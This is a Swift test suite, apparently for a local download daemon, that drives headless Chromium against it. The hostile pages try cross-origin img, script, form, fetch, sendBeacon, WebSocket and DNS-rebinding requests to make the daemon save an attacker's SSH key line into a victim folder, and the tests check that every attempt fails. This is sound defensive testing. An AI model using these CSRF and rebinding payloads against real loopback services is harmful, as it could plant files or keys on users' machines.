import Foundation
import HaulDaemon
import HaulTestSupport
import Testing

/// A real browser (headless Chromium) on a page of another origin tries every way a page can
/// reach `haul daemon` on loopback without a secret: `<img>`, `<script>`, form GET and POST,
/// `fetch`, `sendBeacon`, WebSocket, and DNS rebinding. Nothing may be added or written.
@Suite(.serialized) struct DaemonHostilePageTests {
    static var chromium: String? { DaemonInteropTests.chromium }

    /// The page: each attack asks for `/attack.bin` to be saved as NAME.bin in `victim`.
    static func hostilePage(daemon: String, attackURL: String, victim: String) -> String {
        func call(_ id: Int, _ name: String) -> String {
            #"{"jsonrpc":"2.0","id":\#(id),"method":"aria2.addUri","params":[["\#(attackURL)"],{"dir":"\#(victim)","out":"\#(name).bin"}]}"#
        }
        func params(_ name: String) -> String {
            Data(#"[["\#(attackURL)"],{"dir":"\#(victim)","out":"\#(name).bin"}]"#.utf8).base64EncodedString()
        }
        func getForm(_ name: String) -> String { "\(daemon)/jsonrpc?method=aria2.addUri&id=1&params=\(params(name))" }
        let postCall = call(4, "formpost")
        let splitAt = postCall.index(postCall.endIndex, offsetBy: -1)
        return """
            <!doctype html><html><head><title>hostile</title></head><body>
            <img src="\(getForm("img"))">
            <script src="\(getForm("script"))"></script>
            <iframe name="sink1"></iframe><iframe name="sink2"></iframe>
            <form id="g" method="GET" action="\(daemon)/jsonrpc" target="sink1">
              <input name="method" value="aria2.addUri"><input name="id" value="3"><input name="params" value="\(params("formget"))">
            </form>
            <form id="p" method="POST" action="\(daemon)/jsonrpc" enctype="text/plain" target="sink2">
              <input name='\(postCall[..<splitAt]),"pad":"' value='"}'>
            </form>
            <script>
            const results = {};
            const settle = [];
            document.getElementById('g').submit();
            document.getElementById('p').submit();
            settle.push(fetch('\(daemon)/jsonrpc', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'},
                body: '\(call(5, "fetch"))'}).then(() => results.fetch = 'sent', e => results.fetch = 'error ' + e));
            settle.push(fetch('\(getForm("fetchget"))', {mode: 'no-cors'}).then(() => results.fetchget = 'sent', e => results.fetchget = 'error ' + e));
            results.beacon = navigator.sendBeacon('\(daemon)/jsonrpc', '\(call(6, "beacon"))');
            settle.push(new Promise(done => {
              const socket = new WebSocket('\(daemon.replacingOccurrences(of: "http://", with: "ws://"))/jsonrpc');
              socket.onopen = () => { socket.send('\(call(7, "ws"))'); results.ws = 'open'; setTimeout(done, 500); };
              socket.onerror = () => { results.ws = 'refused'; done(); };
            }));
            Promise.all(settle).then(() => setTimeout(() => { document.title = 'done ' + JSON.stringify(results); }, 1500));
            </script>
            </body></html>
            """
    }

    func everything(_ daemon: DaemonProcess) async throws -> Int {
        var count = 0
        count += try await daemon.call("aria2.tellActive").array?.count ?? 0
        count += try await daemon.call("aria2.tellWaiting", [0, 1000]).array?.count ?? 0
        count += try await daemon.call("aria2.tellStopped", [0, 1000]).array?.count ?? 0
        return count
    }

    @Test(.enabled(if: chromium != nil || DaemonInteropTests.isCI))
    func aPageOfAnotherOriginCannotDriveTheDaemon() async throws {
        let chromium = try #require(Self.chromium, "install Debian's chromium (scripts/install-deps.sh --with-test-servers)")
        try await withDaemon { t async throws in
            let (server, dir, daemon) = (t.server, t.dir, t.daemon)
            server.serve("/attack.bin", Route(content: Array("ssh-ed25519 AAAA attacker\n".utf8)))
            let victim = dir.file("victim")
            try FileManager.default.createDirectory(atPath: victim, withIntermediateDirectories: true)
            let browser = try Browser(
                chromium, profile: dir.file("chromium"),
                arguments: ["--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1"])
            defer { browser.stop() }
            // Same site, another port (as the report's http://127.0.0.1:8099), and another site.
            for (origin, pageHost) in [("127.0.0.1", "127.0.0.1"), ("evil.test", "evil.test")] {
                var page = Route(
                    content: Array(
                        Self.hostilePage(
                            daemon: "http://127.0.0.1:\(daemon.endpoint.port)",
                            attackURL: server.url("/attack.bin"), victim: victim
                        ).utf8))
                page.contentType = "text/html; charset=utf-8"
                server.serve("/hostile-\(origin).html", page)
                let title = try await browser.withPage { page in
                    _ = try await page.send("Page.navigate", ["url": .string("http://\(pageHost):\(server.port)/hostile-\(origin).html")])
                    return try await page.poll(timeout: .seconds(30)) { () async throws -> String? in
                        let title = try await page.evaluate("document.title").string ?? ""
                        return title.hasPrefix("done") ? title : nil
                    }
                }
                #expect(title.contains("\"ws\":\"refused\""), "\(origin): \(title)")
            }
            // Let anything the browser sent arrive before looking.
            try await Task.sleep(for: .milliseconds(500))
            #expect(try await everything(daemon) == 0, "the daemon took a download from the page")
            #expect(try FileManager.default.contentsOfDirectory(atPath: victim).isEmpty)
            #expect(!dir.exists("downloads"))
            #expect(server.stats("/attack.bin").getCount == 0)
        }
    }

    @Test(.enabled(if: chromium != nil || DaemonInteropTests.isCI))
    func dnsRebindingFindsNothing() async throws {
        let chromium = try #require(Self.chromium, "install Debian's chromium (scripts/install-deps.sh --with-test-servers)")
        try await withDaemon { t async throws in
            let (server, dir, daemon) = (t.server, t.dir, t.daemon)
            server.serve("/attack.bin", Route(content: Array("x".utf8)))
            let browser = try Browser(chromium, profile: dir.file("chromium"), arguments: ["--host-resolver-rules=MAP rebind.test 127.0.0.1"])
            defer { browser.stop() }
            // rebind.test now resolves to 127.0.0.1: to the browser, the daemon is the page's own origin.
            let port = daemon.endpoint.port
            let answers = try await browser.withPage { page in
                _ = try await page.send("Page.navigate", ["url": .string("http://rebind.test:\(port)/")])
                _ = try await page.poll(timeout: .seconds(20)) { () async throws -> Bool? in
                    try await page.evaluate("document.readyState").string == "complete" ? true : nil
                }
                let script = """
                    (async () => {
                      const post = body => fetch('/jsonrpc', {method: 'POST', body}).then(r => r.status + ' ' + r.statusText, e => 'error');
                      const add = await post('{"jsonrpc":"2.0","id":1,"method":"aria2.addUri","params":[["\(server.url("/attack.bin"))"]]}');
                      const list = await post('{"jsonrpc":"2.0","id":2,"method":"aria2.tellStopped","params":[0,10]}');
                      const page = await fetch('/').then(r => r.status, e => 'error');
                      return [add, list, String(page)].join('|');
                    })()
                    """
                return try await page.send("Runtime.evaluate", ["expression": .string(script), "awaitPromise": true, "returnByValue": true])["result"]?[
                    "value"]?.string ?? ""
            }
            #expect(answers.split(separator: "|").allSatisfy { $0.hasPrefix("403") }, "\(answers)")
            #expect(try await everything(daemon) == 0)
            #expect(server.stats("/attack.bin").getCount == 0)
        }
    }
}
